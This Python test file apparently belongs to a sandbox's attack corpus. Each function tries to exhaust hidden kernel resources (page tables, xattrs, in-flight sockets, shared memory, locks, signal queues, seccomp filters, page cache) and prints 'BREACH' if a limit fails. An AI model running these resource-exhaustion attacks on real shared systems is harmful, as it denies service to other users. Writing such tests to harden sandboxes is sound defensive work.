"""Memory, and other things of the kernel's, that are seen with no process.

Each is an attack on the machine and on the neighbours: whatever it takes must count for the
submission, or not be had. What it may end with is a limit that is told; never a neighbour's point.
"""

from tests.attacks.corpus import attack

H = "hidden memory"
SHORT = ("memory", "killed", "busy", "processes", "open-files", "files", "timeout", "crashed")


@attack(H)
def memory_of_page_tables():
    """One letter read in every second megabyte: the page of zeros, and a table for each."""
    import ctypes
    import mmap

    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    for size in (2**43, 2**40, 2**38, 2**36):
        start = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, ctypes.c_long(0))
        if start not in (None, 2**64 - 1):
            for at in range(0, min(size, 2**21 * 300_000), 2**21):
                ctypes.string_at(start + at, 1)
            print("tables of", min(size, 2**21 * 300_000) // 2**21 * mmap.PAGESIZE, "bytes")
            break


@attack(H)
def memory_of_attributes():
    """Extended attributes of files in memory: no limit of the folder's counts them."""
    import errno
    import os

    taken = 0
    for folder in ("/tmp", "/learner/work", "/dev/shm"):
        for number in range(2000):
            path = f"{folder}/x{number}"
            try:
                open(path, "w").close()
                for name in range(60):
                    os.setxattr(path, f"user.{name}", b"x" * 60_000)
                    taken += 60_000
                    if taken > 2**30:
                        break
            except OSError as error:
                print(errno.errorcode.get(error.errno))
                break
            if taken > 2**30:
                print("BREACH: a gigabyte of attributes")
                break


@attack(H)
def files_in_flight():
    """Sockets full of data, sent over sockets and closed: held by nobody's table of files."""
    import array
    import os
    import socket
    import time

    sent = 0
    end = time.monotonic() + 2
    carrier = socket.socketpair()
    carrier[0].setblocking(False)
    while time.monotonic() < end:
        pair = socket.socketpair()
        pair[0].setblocking(False)
        try:
            while True:
                pair[0].send(b"x" * 2**16)
        except OSError:
            pass
        rights = (
            socket.SOL_SOCKET,
            socket.SCM_RIGHTS,
            array.array("i", [e.fileno() for e in pair]),
        )
        try:
            carrier[0].sendmsg([b"x"], [rights])
            sent += 1
        except OSError:
            try:  # the carrier itself travels in the next
                following = socket.socketpair()
                following[0].setblocking(False)
                rights = array.array("i", [e.fileno() for e in carrier])
                following[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                carrier = following
            except OSError:
                break
        for one in pair:
            one.close()
    print(sent, "pairs in flight;", len(os.listdir("/proc/self/fd")), "files open")


@attack(H)
def memory_without_a_name():
    """Files of memory by every call that makes one, and what can be mapped of them."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for name, number, arguments in (
        ("memfd_create", 319, (b"x", 0)),
        ("memfd of huge pages", 319, (b"x", 4)),
        ("memfd_secret", 447, (0,)),
        ("shmget", 29, (0, 2**24, 0o1600)),
        ("semget", 64, (0, 250, 0o1600)),
        ("msgget", 68, (0, 0o1600)),
        ("mq_open", 240, (b"x", 0o102, 0o600, None)),
        ("add_key", 248, (b"big_key", b"x", b"y" * 2**19, 2**19, -3)),
        ("request_key", 249, (b"user", b"x", b"y", -3)),
        ("fanotify_init", 300, (0, 0)),
        ("inotify_init", 253, ()),
        ("landlock_create_ruleset", 444, (b"\1" + b"\0" * 7, 8, 0)),
        ("io_setup", 206, (64, ctypes.byref(ctypes.c_ulong(0)))),
        ("userfaultfd", 323, (1,)),
        ("bpf", 321, (0, b"\2" + b"\0" * 71, 72)),
        ("perf_event_open", 298, (b"\0" * 112, 0, -1, -1, 0)),
        ("quotactl", 179, (0x800002, None, 0, None)),
        ("fsopen", 430, (b"tmpfs", 0)),
        ("open_tree", 428, (-100, b"/tmp", 1)),
        ("mount_setattr", 442, (-100, b"/tmp", 0, b"\0" * 32, 32)),
    ):
        if os.uname().machine == "x86_64" and libc.syscall(number, *arguments) >= 0:
            print("BREACH:", name)


@attack(H)
def pages_locked_and_huge():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mlockall(3)
    for flags in (0x22 | 0x2000, 0x22 | 0x40000, 0x21 | 0x40000 | (21 << 26), 0x21 | 0x8000):
        start = libc.mmap(None, ctypes.c_size_t(2**28), 3, flags, -1, ctypes.c_long(0))
        if start not in (None, 2**64 - 1):
            print("had", hex(flags), libc.mlock(ctypes.c_void_p(start), ctypes.c_size_t(2**28)))
            libc.munmap(ctypes.c_void_p(start), ctypes.c_size_t(2**28))
    libc.prctl(67, 1, 0, 0, 0)  # have all its pages compared with all others


@attack(H)
def shared_pages_let_go_of_by_grandchildren():
    """Shared pages whose writers have ended: refused, or ended."""
    import ctypes
    import mmap
    import os
    import time

    libc, size = ctypes.CDLL(None), 150 * 2**20
    maps = [mmap.mmap(-1, size) for _ in range(8)]
    for held in maps:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for at in range(0, size, 2**22):
                    held[at : at + 2**22] = b"x" * 2**22
                start = ctypes.addressof(ctypes.c_char.from_buffer(held))
                libc.munmap(ctypes.c_void_p(start), ctypes.c_size_t(size))
            os._exit(0)
    time.sleep(2.5)
    print("BREACH: more than a gigabyte, mapped by one who never touched it")


@attack(H, ends=SHORT)
def children_each_below_the_limit():
    """Ten copies of a parent of thirty megabytes, which stop to be copies a piece at a time."""
    import os
    import time

    block = bytearray(90 * 2**20)
    for _ in range(10):
        if os.fork() == 0:
            os.setsid()
            for at in range(0, len(block), 4096):
                block[at] = 1
            time.sleep(600)
    time.sleep(2.5)
    print("BREACH: ten times ninety megabytes")


@attack(H)
def a_runner_ahead_of_the_watch():
    """Each process takes much, hands over to the next and ends, before anybody looks."""
    import ctypes
    import os
    import time

    ctypes.CDLL(None).prctl(15, b"@MARK@", 0, 0, 0)
    if os.fork() == 0:
        end = time.monotonic() + 2
        while time.monotonic() < end:
            kept = bytearray(b"x" * (150 * 2**20))
            if os.fork():
                os._exit(0)
            del kept
        os._exit(0)
    time.sleep(0.5)


@attack(H)
def deleted_files_that_stay_open():
    import os

    kept, taken = [], 0
    for folder in ("/tmp", "/dev/shm", "/learner/work"):
        try:
            for number in range(40):
                kept.append(open(f"{folder}/gone{number}", "wb"))
                os.unlink(kept[-1].name)
                os.posix_fallocate(kept[-1].fileno(), 0, 15 * 2**20)
                taken += 15 * 2**20
        except OSError:
            pass
    if taken > 300 * 2**20:
        print("BREACH:", taken, "bytes in deleted files")


@attack(H)
def folders_links_and_long_names():
    """Entries without contents: names of 250 letters, links of 4000."""
    import os

    made = 0
    for folder in ("/tmp", "/learner/work", "/dev/shm"):
        try:
            for number in range(60_000):
                os.symlink("y" * 4000, f"{folder}/{number:0250}")
                made += 1
        except OSError:
            pass
    if made > 100_000:
        print("BREACH:", made, "links of four kilobytes")


@attack(H)
def names_that_never_were():
    """Questions for files that are not there, of which the kernel keeps the answers."""
    import contextlib
    import os
    import time

    end, number = time.process_time() + 1, 0
    while time.process_time() < end:
        number += 1
        with contextlib.suppress(OSError):
            os.stat(f"/usr/lib/{number:0240}")


@attack(H)
def locks_without_end():
    """A lock on every second letter of a file. That the call says it worked is not to have one."""
    import fcntl
    import pathlib
    import struct
    import time

    file, end, made = open("locked", "wb"), time.process_time() + 0.5, 0
    try:
        while time.process_time() < end:
            for command in (fcntl.F_SETLK, 37):
                fcntl.fcntl(file, command, struct.pack("hhqqi4x", 1, 0, made * 2, 1, 0))
            made += 1
    except OSError:
        pass
    held = len(pathlib.Path("/proc/locks").read_text().splitlines())
    if held > 1000:
        print("BREACH:", held, "locks of", made)


@attack(H)
def signals_and_timers_in_queues():
    import ctypes
    import os
    import signal

    libc, made = ctypes.CDLL(None, use_errno=True), [0, 0]
    signal.pthread_sigmask(signal.SIG_BLOCK, {40})
    libc.sigqueue.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
    while made[0] < 50_000 and libc.sigqueue(os.getpid(), 40, None) == 0:
        made[0] += 1
    timer = ctypes.c_void_p()
    while made[1] < 50_000 and libc.timer_create(1, None, ctypes.byref(timer)) == 0:
        made[1] += 1
    if max(made) >= 20_000:
        print("BREACH: signals and timers", made)


@attack(H)
def watchers_of_watchers():
    """Descriptors that hold others: epoll in epoll, timers, events, and filters on sockets."""
    import ctypes
    import os
    import select
    import socket

    libc, kept = ctypes.CDLL(None, use_errno=True), []
    try:
        for _ in range(20):
            kept += [select.epoll(), *socket.socketpair()]
            if len(kept) > 3:
                kept[-6].register(kept[-3].fileno())
            for made in (libc.eventfd(0, 0), libc.timerfd_create(1, 0)):
                kept[-3].register(os.dup(made), 1)
        program = ctypes.create_string_buffer(b"\6\0\0\0\xff\xff\0\0" * 4096)
        filters = ctypes.create_string_buffer(16)
        ctypes.memmove(filters, (4096).to_bytes(8, "little"), 8)
        address = ctypes.addressof(program).to_bytes(8, "little")
        ctypes.memmove(ctypes.addressof(filters) + 8, address, 8)
        for one in kept:
            if isinstance(one, socket.socket):
                one.setsockopt(socket.SOL_SOCKET, 26, filters.raw)
    except OSError as error:
        print(type(error).__name__)


@attack(H)
def filters_on_its_own_calls():
    """A filter of system calls for each of many threads; and calls that become slow by them."""
    import ctypes
    import threading

    libc = ctypes.CDLL(None, use_errno=True)
    program = ctypes.create_string_buffer(b"\0\0\0\0\0\0\0\0" * 4095 + b"\6\0\0\0\0\0\xff\x7f")
    head = (4096).to_bytes(8, "little") + ctypes.addressof(program).to_bytes(8, "little")

    def add():
        for _ in range(8):
            libc.prctl(38, 1, 0, 0, 0)
            libc.prctl(22, 2, ctypes.create_string_buffer(head), 0, 0)

    for _ in range(8):
        thread = threading.Thread(target=add)
        thread.start()
        thread.join()


@attack(H)
def the_machine_made_to_write_and_forget():
    """The disks of the machine asked to write everything, the libraries to be read again."""
    import glob
    import os
    import sys

    for _ in range(3):
        os.sync()
    for path in glob.glob(sys.prefix + "/lib*/python3*/*.py")[:300] + glob.glob("/usr/lib/*/*.so*"):
        try:
            with open(path, "rb") as file:
                os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
        except OSError:
            pass
